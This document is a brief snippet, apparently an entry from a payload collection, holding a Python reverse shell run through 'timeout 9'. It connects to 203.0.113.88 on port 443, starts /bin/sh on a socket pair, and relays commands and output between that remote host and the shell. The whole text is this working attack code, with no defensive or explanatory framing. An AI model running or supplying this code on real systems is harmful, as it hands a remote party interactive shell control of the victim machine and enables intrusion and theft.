# python relays between a connection and a pair of sockets that a shell has as its standard input and output
#pool 203.0.113.88:443:cmd
timeout 9 python3 -c '
import socket,os,select,subprocess
s=socket.create_connection(("203.0.113.88",443)); a,b=socket.socketpair()
p=subprocess.Popen(["/bin/sh"],stdin=b,stdout=b,stderr=b); b.close()
while True:
    r,_,_=select.select([s,a],[],[])
    if s in r:
        d=s.recv(1024)
        if not d: break
        a.sendall(d)
    if a in r:
        d=a.recv(1024)
        if not d: break
        s.sendall(d)'
